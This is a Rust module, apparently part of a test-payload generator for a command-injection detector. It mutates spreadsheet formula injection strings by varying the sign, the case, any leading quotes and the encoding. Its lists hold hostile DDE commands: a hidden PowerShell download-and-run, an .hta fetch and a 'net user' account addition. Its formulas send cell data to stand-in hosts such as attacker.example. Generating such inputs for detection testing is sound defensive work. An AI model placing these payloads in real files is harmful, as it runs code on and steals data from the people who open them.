//! Spreadsheet formula injection (CSV/DDE): a value that a spreadsheet runs as a formula when
//! an export is opened: a sign (`=`, `+`, `-`, `@`) × a program reached through DDE
//! (`cmd|' /C calc'!A0`) or a function that calls out (`HYPERLINK`, `WEBSERVICE`,
//! `IMPORTXML`…) × arithmetic in front, leading quotes or blanks, case × a transport layer.

use crate::mutate::{join, random_case, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct SpreadsheetFormula;

const PROGRAMS: &[&str] = &["cmd", "cmd.exe", "msexcel", "powershell", "mshta", "rundll32", "cscript", "regsvr32"];
const ARGUMENTS: &[&str] = &[
    " /C calc",
    "/c notepad",
    " /C powershell -nop -w hidden IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')",
    "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe",
    " /c start http://attacker.example",
    " /C net user x P@ss /add",
    " -e JABjAD0AMQA=",
    " http://198.51.100.4/x.hta",
];
const CELLS: &[&str] = &["A0", "A1", "'A1'", "_xlbgnm.A1", "Z99"];
const FETCHERS: &[&str] = &[
    "HYPERLINK",
    "WEBSERVICE",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "DDE",
    "CALL",
    "REGISTER.ID",
    "FILTERXML",
];
const HOSTS: &[&str] = &["attacker.example", "198.51.100.23", "exfil.test", "x.invalid:8080"];

fn dde(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("dde");
    let lead = match rng.below(5) {
        0 => {
            names.push("arithmetic");
            *rng.pick(&["SUM(1+9)*", "2+3+", "1+", "A1*"])
        }
        _ => "",
    };
    let mut program = rng.pick(PROGRAMS).to_string();
    if rng.chance(0.4) {
        program = random_case(rng, &program);
        names.push("case");
    }
    let pipe = *rng.pick(&["|", "|", " | ", "|"]);
    format!("{lead}{program}{pipe}'{}'!{}", rng.pick(ARGUMENTS), rng.pick(CELLS))
}

fn fetch_call(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("fetch");
    let mut function = rng.pick(FETCHERS).to_string();
    if rng.chance(0.5) {
        function = random_case(rng, &function);
        names.push("case");
    }
    let url = format!("http://{}/{}", rng.pick(HOSTS), rng.pick(&["?d=", "log?c=", "x", ""]));
    let args = match function.to_ascii_uppercase().as_str() {
        "DDE" => format!("\"{}\";\"{}\";\"!A0\"", rng.pick(PROGRAMS), rng.pick(ARGUMENTS).trim()),
        "CALL" | "REGISTER.ID" => format!(
            "\"{}\",\"{}\",\"JJCCJJ\"",
            rng.pick(&["Kernel32", "urlmon", "shell32"]),
            rng.pick(&["WinExec", "URLDownloadToFileA", "ShellExecuteA"])
        ),
        _ => match rng.below(3) {
            0 => format!("\"{url}\"&A1&B1"),
            1 => format!("CONCATENATE(\"{url}\",A2),\"{}\"", rng.pick(&["Click", "//a", "Invoice"])),
            _ => format!("\"{url}\"&{}", rng.pick(&["A1", "C2:C9", "Sheet2!A1"])),
        },
    };
    let space = if rng.chance(0.2) {
        names.push("spacing");
        " "
    } else {
        ""
    };
    format!("{function}{space}({args})")
}

impl Family for SpreadsheetFormula {
    fn name(&self) -> &'static str {
        "spreadsheet-formula"
    }

    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let sign = *rng.pick(&["=", "=", "+", "-", "@"]);
        if sign != "=" {
            names.push("sign");
        }
        let body = if rng.chance(0.55) { dde(rng, &mut names) } else { fetch_call(rng, &mut names) };
        // A quote or blank before the sign: CSV writers quote a field, and spreadsheets skip it.
        let lead = match rng.below(6) {
            0 => "\"",
            1 => " ",
            2 => "'",
            _ => "",
        };
        if !lead.is_empty() {
            names.push("lead");
        }
        let text = format!("{lead}{sign}{body}");
        let (payload, layer) = transport_layer(rng, &text);
        names.push(layer);
        Variant { family: "spreadsheet-formula", mutation: join(&names), payload, carrier: Carrier::Value }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn varied_and_seeded() {
        super::super::assert_varied_and_seeded(&SpreadsheetFormula, 400, 300);
    }

    #[test]
    fn every_variant_starts_a_formula_once_decoded() {
        for v in crate::sample(&SpreadsheetFormula, 9, 400) {
            let decoded = percent_decode(&percent_decode(&v.payload));
            let start = decoded.trim_start_matches([' ', '"', '\'']);
            assert!(start.starts_with(['=', '+', '-', '@']), "{decoded:?}");
        }
    }

    fn percent_decode(text: &str) -> String {
        let b = text.as_bytes();
        let mut out = Vec::with_capacity(b.len());
        let mut i = 0;
        while i < b.len() {
            match (b[i], b.get(i + 1..i + 3).and_then(|h| u8::from_str_radix(std::str::from_utf8(h).ok()?, 16).ok())) {
                (b'%', Some(byte)) => {
                    out.push(byte);
                    i += 3;
                }
                (c, _) => {
                    out.push(c);
                    i += 1;
                }
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }
}
